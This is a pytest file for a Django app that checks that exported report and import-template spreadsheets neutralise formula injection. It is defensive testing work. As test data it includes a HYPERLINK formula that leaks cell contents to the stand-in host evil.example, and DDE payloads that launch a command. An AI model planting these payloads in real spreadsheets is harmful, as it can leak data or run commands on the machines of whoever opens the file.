"""No text cell of any spreadsheet Ombud writes is a formula (CSV/formula injection): the
public .xlsx of a report to the media and the backlog import template. Text that begins with a
formula character is written as a string with a leading single quote; numbers stay numbers."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from ombud import spreadsheet
from ombud.cases.imports.template import template_workbook
from ombud.reports.publication import exports, services
from ombud.reports.publication.snapshot import build_snapshot
from ombud.reports.tests.test_publication import day, record  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
LEADS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


def cells(body: bytes):
    wb = load_workbook(io.BytesIO(body))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def assert_no_formula(body: bytes) -> list:
    """Every cell of the workbook: none is a formula, every text cell is a string that does not
    begin with a formula character. Returns the cells."""
    found = list(cells(body))
    for sheet, cell in found:
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)
            assert cell.value[:1] not in spreadsheet.FORMULA_LEADS, (sheet, cell.coordinate, cell.value)
    return found


def test_the_helper_escapes_every_formula_character_and_keeps_numbers():
    for lead in LEADS:
        assert spreadsheet.text(lead + "1+1") == "'" + lead + "1+1"
    assert spreadsheet.text("中国人寿") == "中国人寿" and spreadsheet.text("a=b") == "a=b"
    assert spreadsheet.text("bad\x01char") == "badchar"  # not storable in an .xlsx: dropped, no 500
    assert spreadsheet.value(12) == 12 and spreadsheet.value(-3) == -3 and spreadsheet.value(None) is None


def test_the_public_report_xlsx_has_no_formula_cell(day):  # noqa: F811
    for org in (day.company_a, day.company_a_maoming):
        org.name = HYPERLINK + org.name
        org.save()
    report = services.publish(day.officer, campaign_id=day.campaign.pk, title="=1+1 " + HYPERLINK)
    r = Client().get(reverse("publication:xlsx", args=[report.public_id]))
    assert r.status_code == 200
    found = assert_no_formula(r.content)
    texts = [cell.value for _, cell in found if isinstance(cell.value, str)]
    assert sum(t.startswith("'" + HYPERLINK) for t in texts) >= 3  # by company, ranking, cases by company
    assert "'=1+1 " + HYPERLINK in texts  # the title, on the "about" sheet
    # Numbers are still numbers.
    figures = [cell for sheet, cell in found if sheet == report.snapshot["tables"][0]["sheet"] and cell.row > 1]
    assert next(c.value for c in figures if c.column == 2) == 23 and figures[1].data_type == "n"


def test_every_text_of_a_report_snapshot_is_escaped_in_the_xlsx(day):  # noqa: F811
    """Every place a text reaches the workbook — column labels, cells, footers, notes, the
    about sheet's values and the press paragraphs — with a formula in it."""
    snap = build_snapshot(day.officer, campaign_id=day.campaign.pk)
    for i, table in enumerate(snap["tables"]):
        lead = LEADS[i % len(LEADS)]
        table["note"] = lead + "note"
        for column in table["columns"]:
            column["label"] = lead + column["label"]
        types = [c["type"] for c in table["columns"]]
        for row in [*table["rows"], *([table["footer"]] if table.get("footer") else [])]:
            for j, type_ in enumerate(types):
                if type_ == "text":
                    row[j] = HYPERLINK
    snap["title"], snap["covers"], snap["publisher"] = "=A1", "+A2", "@A3"
    snap["press"]["title"] = "-A4"
    for p in snap["press"]["paragraphs"]:
        p["heading"], p["text"] = "＝A5", HYPERLINK
    found = assert_no_formula(exports.report_xlsx(snap, url="=A6", published_at="-1"))
    texts = [cell.value for _, cell in found if isinstance(cell.value, str)]
    assert {"'=A1", "'+A2", "'@A3", "'-A4", "'＝A5", "'=A6", "'-1"} <= set(texts)
    assert texts.count("'" + HYPERLINK) >= len(snap["tables"])


def test_the_import_template_has_no_formula_cell(day):  # noqa: F811
    day.company_a.name = "=cmd|' /C calc'!A0"
    day.company_a.save()
    day.company_a_maoming.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    day.company_a_maoming.save()
    body = template_workbook(day.handler_a)
    found = assert_no_formula(body)
    texts = {cell.value for _, cell in found if isinstance(cell.value, str)}
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= texts
    ids = [cell.value for sheet, cell in found if sheet == "可选值" and cell.column == 2 and cell.data_type == "n"]
    assert day.company_a.pk in ids  # ids stay numbers
